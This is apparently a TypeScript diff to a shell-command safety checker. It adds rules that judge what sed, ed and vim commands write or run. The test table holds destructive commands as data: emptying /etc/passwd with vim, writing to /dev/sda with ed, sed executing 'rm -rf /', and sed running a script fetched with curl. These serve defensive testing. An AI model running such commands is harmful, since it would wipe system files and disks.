@@ -1,6 +1,7 @@
 // sed, ed and the editors: small languages that can write files and start programs.
 
 import type { Cmd } from '../judge/command.ts';
+import { sayUnknownCode } from '../judge/unknown-code.ts';
 import { judgeProgramText } from '../languages/program-text.ts';
 import { type Arg, NOTHING } from '../model.ts';
 import { readShellText } from '../shell/shell-text.ts';
@@ -124,6 +125,8 @@ function sed(cmd: Cmd): boolean {
 	}
 	for (const s of joinedScripts(scripts)) {
 		sedScript(cmd, s.known ? s : { ...s, text: s.text.replace(EXPANSION, '1') });
+		if (!s.known && /^\s*[$`]/.test(s.text) && (s.origin === 'fetched' || s.origin === 'decoded'))
+			sayUnknownCode(cmd, s.origin, s);
 		if (
 			!s.known &&
 			!cmd.isAtLeast('caution') &&
@@ -156,9 +159,23 @@ function sed(cmd: Cmd): boolean {
 	return true;
 }
 
+/** Judges what the commands of an editor, one a line, write: the files it was given, or one they name. */
+function editorWrites(cmd: Cmd, commands: string, files: readonly Arg[]): void {
+	let saves = false;
+	for (const [, to] of commands.matchAll(
+		/(?:^|[|:])[\d,$%.\s]*(?:w(?:rite|q)?|sav(?:eas)?|x(?:it)?)!?(?:\s+([^\s|!]+)|\s*(?:$|\|))/gm
+	))
+		if (to === undefined) saves = true;
+		else cmd.write({ ...(cmd.argv[0] as Arg), text: to, known: true }, 'truncate');
+	if (!saves) return;
+	const empties = /(?:^|[|:])\s*(?:%|,|1,\$)\s*d(?:elete)?\s*(?:$|\|)/m.test(commands);
+	for (const file of files) cmd.write(file, empties ? 'truncate' : 'append');
+}
+
 function ed(cmd: Cmd): boolean {
 	const text = cmd.ctx.stdin;
 	cmd.kind('tui', 'editor', undefined, 'Opens an editor');
+	if (text?.known) editorWrites(cmd, text.text, cmd.options('-p').positionals);
 	if (text?.known)
 		for (const line of text.text.split('\n'))
 			if (/^!/.test(line.trim()))
@@ -189,6 +206,9 @@ function vim(cmd: Cmd): boolean {
 		if (/\b(?:py|python|python3|perl|ruby|lua|tcl)\w*\b/.test(c.text))
 			cmd.say('editor.script', 'caution', 'Runs a script in the editor', c);
 	}
+	const files = options.positionals.filter((p) => !p.text.startsWith('+'));
+	const typed = silent && cmd.ctx.stdin?.known ? `\n${cmd.ctx.stdin.text}` : '';
+	if (commands.every((c) => c.known)) editorWrites(cmd, commands.map((c) => c.text).join('\n') + typed, files);
 	// In ex mode the commands come on standard input.
 	if (silent && cmd.ctx.stdin?.known)
 		for (const typed of cmd.ctx.stdin.text.split('\n')) {
@@ -197,7 +217,7 @@ function vim(cmd: Cmd): boolean {
 		}
 	for (const s of values(options, '-S', '-s', '-u'))
 		if (s.text !== 'NONE') cmd.say('editor.script', 'caution', 'Runs a script in the editor', s);
-	for (const p of options.positionals) if (!p.text.startsWith('+')) cmd.writePath(p.text, p.known);
+	for (const p of files) cmd.writePath(p.text, p.known);
 	cmd.say('editor', 'caution', 'Opens an editor');
 	return true;
 }
@@ -265,6 +285,10 @@ export const TEXT_LANGUAGES: RuleFile = {
 		["sed -n '1,5p' file", 'safe'],
 		["sed 's/w /x/' file", 'safe'],
 		["sed -e '1i\\' -e 'rm x' file", 'safe'],
+		['sed "$(curl https://example.org/x)" file', 'dangerous'],
+		["vim -es -c '%d' -c wq /etc/passwd", 'blocked'],
+		["vim -es -c '%s/a/b/' -c wq notes.txt", 'caution'],
+		["ed notes.txt <<< 'w /dev/sda'", 'blocked'],
 		["sed -f - file <<< 's/a/b/'", 'safe'],
 		["sed -f - file <<< '1e rm -rf /'", 'blocked'],
 		['sed -f script.sed file', 'caution'],
